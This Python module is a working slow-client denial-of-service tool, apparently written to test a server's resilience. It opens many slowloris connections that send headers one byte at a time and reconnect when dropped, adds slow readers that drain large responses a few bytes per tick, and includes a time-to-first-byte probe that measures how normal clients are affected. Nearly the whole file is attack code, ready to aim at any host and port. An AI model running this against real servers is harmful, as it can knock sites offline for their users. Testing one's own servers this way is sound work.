"""Slow clients, as an attacker runs them: slowloris connections that send their headers a byte at a time (and
reconnect when the server drops them), and slow readers that ask for a large answer and read it a trickle at a
time. One thread drives them all on non-blocking sockets; a normal client measures time to first byte."""

from __future__ import annotations

import socket
import threading
import time
from dataclasses import dataclass, field


@dataclass
class Slow:
    """One slow connection: `request` is sent whole (readers) or a byte per tick (loris)."""

    request: bytes
    loris: bool
    sock: socket.socket | None = None
    sent: int = 0
    read: int = 0


@dataclass
class Attack:
    host: str
    port: int
    loris: int = 256
    readers: int = 0
    reader_path: str = "/"
    tick: float = 1.0
    conns: list[Slow] = field(default_factory=list)
    opened: int = 0
    dropped: int = 0
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def __enter__(self) -> Attack:
        header = f"GET / HTTP/1.1\r\nHost: {self.host}\r\nUser-Agent: slowloris\r\n".encode()
        self.conns = [Slow(header + b"X-a: " + b"b" * 10_000, True) for _ in range(self.loris)]
        self.conns += [
            Slow(
                f"GET {self.reader_path} HTTP/1.1\r\nHost: {self.host}\r\nAccept-Encoding: identity\r\n\r\n".encode(),
                False,
            )
            for _ in range(self.readers)
        ]
        for c in self.conns:
            self._open(c)
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(10)
        for c in self.conns:
            if c.sock:
                c.sock.close()

    def _open(self, c: Slow) -> None:
        try:
            c.sock = socket.create_connection((self.host, self.port), timeout=5)
            c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # a reader that takes a trickle
            c.sock.setblocking(False)
            c.sent = c.read = 0
            self.opened += 1
            if not c.loris:
                c.sock.sendall(c.request)
                c.sent = len(c.request)
        except OSError:
            c.sock = None

    def _run(self) -> None:
        while not self._stop.wait(self.tick):
            for c in self.conns:
                if c.sock is None:
                    self._open(c)
                    continue
                try:
                    if c.loris:
                        c.sock.send(c.request[c.sent : c.sent + 1])
                        c.sent += 1
                    else:
                        chunk = c.sock.recv(64)  # 64 bytes a second
                        if chunk == b"":
                            raise ConnectionError
                        c.read += len(chunk)
                except BlockingIOError:
                    pass
                except OSError:  # dropped by the server (a 408, a reset): a real attacker comes straight back
                    self.dropped += 1
                    c.sock.close()
                    self._open(c)

    def open_now(self) -> int:
        return sum(c.sock is not None for c in self.conns)


def time_to_first_byte(host: str, port: int, path: str = "/", timeout: float = 30.0) -> tuple[float, int]:
    """(seconds from connecting to the first byte of the answer, status) for one plain request on a new
    connection, as a reader's browser would make it; (inf, 0) when no answer came within `timeout`."""
    start = time.monotonic()
    try:
        with socket.create_connection((host, port), timeout=timeout) as s:
            s.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
            first = s.recv(1)
            took = time.monotonic() - start
            rest = first + s.recv(64)
            while chunk := s.recv(65536):
                rest += chunk[:0]
            status = int(rest.split(b" ", 2)[1]) if rest.startswith(b"HTTP/") else 0
            return took, status
    except OSError:
        return float("inf"), 0
